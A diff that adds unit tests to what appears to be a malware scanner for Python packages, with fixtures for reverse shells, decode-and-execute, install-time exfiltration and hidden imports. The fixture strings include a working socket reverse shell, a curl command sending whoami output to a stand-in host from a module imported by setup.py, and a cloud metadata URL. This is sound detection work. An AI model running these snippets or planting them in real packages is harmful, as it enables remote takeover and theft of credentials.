@@ -337,3 +337,96 @@ def test_verdict_and_score_follow_the_worst_finding() -> None:
     assert judge([f("high", "pkg/tests/test_x.py")])[0] == "risky"
     assert judge([f("critical")])[1] > judge([f("high")])[1] > judge([f("medium")])[1]
     assert 0 <= judge([f("critical")] * 50)[1] <= 100
+
+
+# -- rules added from behaviour families ----------------------------------------------------------
+
+
+def test_reverse_shell_is_flagged() -> None:
+    src = """
+        import socket, subprocess, os
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.connect(("203.0.113.5", 4444))
+        os.dup2(s.fileno(), 0)
+        subprocess.call(["/bin/sh", "-i"])
+    """
+    assert "intent.reverse-shell" in rules_of({"demo/__init__.py": src})
+    honest = """
+        import socket
+        def ping(host):
+            with socket.create_connection((host, 80), timeout=3) as s:
+                return s.recv(16)
+    """
+    assert "intent.reverse-shell" not in rules_of({"demo/net.py": honest})
+
+
+def test_decoder_helper_returning_into_os_system_is_followed() -> None:
+    src = """
+        import base64, os
+        from setuptools import setup
+        def unpack(s):
+            return base64.b64decode(s).decode()
+        os.system(unpack("ZWNobyBoaQ=="))
+        setup(name="demo")
+    """
+    assert "intent.decode-execute" in rules_of({"setup.py": src})
+
+
+def test_module_imported_by_setup_runs_at_install() -> None:
+    helper = """
+        import subprocess
+        subprocess.run('curl -d "$(whoami)" https://collect.example/x', shell=True)
+    """
+    setup = "from hooks import go\nfrom setuptools import setup\nsetup(name='demo')\n"
+    result = analyze(artifact({"setup.py": setup, "hooks.py": helper}))
+    assert "intent.exfiltration" in {f.rule for f in result.findings}
+    assert result.verdict == "malicious"
+
+
+def test_wallet_key_sent_over_network_is_exfiltration() -> None:
+    src = """
+        import requests
+        def sign(private_key, tx):
+            requests.post("https://api.example/tx", json={"k": private_key, "tx": tx})
+    """
+    assert "intent.exfiltration" in rules_of({"demo/wallet.py": src})
+
+
+def test_install_time_launch_of_executable() -> None:
+    src = """
+        import subprocess
+        from setuptools import setup
+        subprocess.Popen("helper.vbs", shell=True)
+        setup(name="demo")
+    """
+    assert "install-time.runs-executable" in rules_of({"setup.py": src})
+
+
+def test_xor_hidden_import_and_cloud_metadata() -> None:
+    src = "m = __import__(''.join(chr(c ^ 7) for c in [104, 116]))\n"
+    assert "obfuscation.hidden-import" in rules_of({"demo/__init__.py": src})
+    plugins = "def load(a, b):\n    return __import__('.'.join([a, b]))\n"
+    assert "obfuscation.hidden-import" not in rules_of({"demo/plugins.py": plugins})
+    imds = 'URL = "http://169.254.169.254/latest/meta-data/iam/"\n'
+    assert "indicator.cloud-metadata" in rules_of({"setup.py": imds})
+
+
+def test_literal_code_kept_in_a_variable_is_not_hidden() -> None:
+    src = """
+        def setup_shell(ns):
+            s = "import numpy\\nimport matplotlib\\nfrom matplotlib import pyplot as plt\\n"
+            exec(s, ns)
+    """
+    assert "obfuscation.hidden-code-exec" not in rules_of({"demo/shell.py": src})
+
+
+def test_unknown_local_named_like_a_module_is_not_that_module() -> None:
+    src = """
+        async def handler(websocket):
+            await websocket.send("hi")
+            requests = [1, 2]
+            return requests.pop()
+    """
+    assert "capability.network" not in {
+        f.rule for f in analyze(artifact({"demo/server.py": src})).findings if f.line == 3
+    }
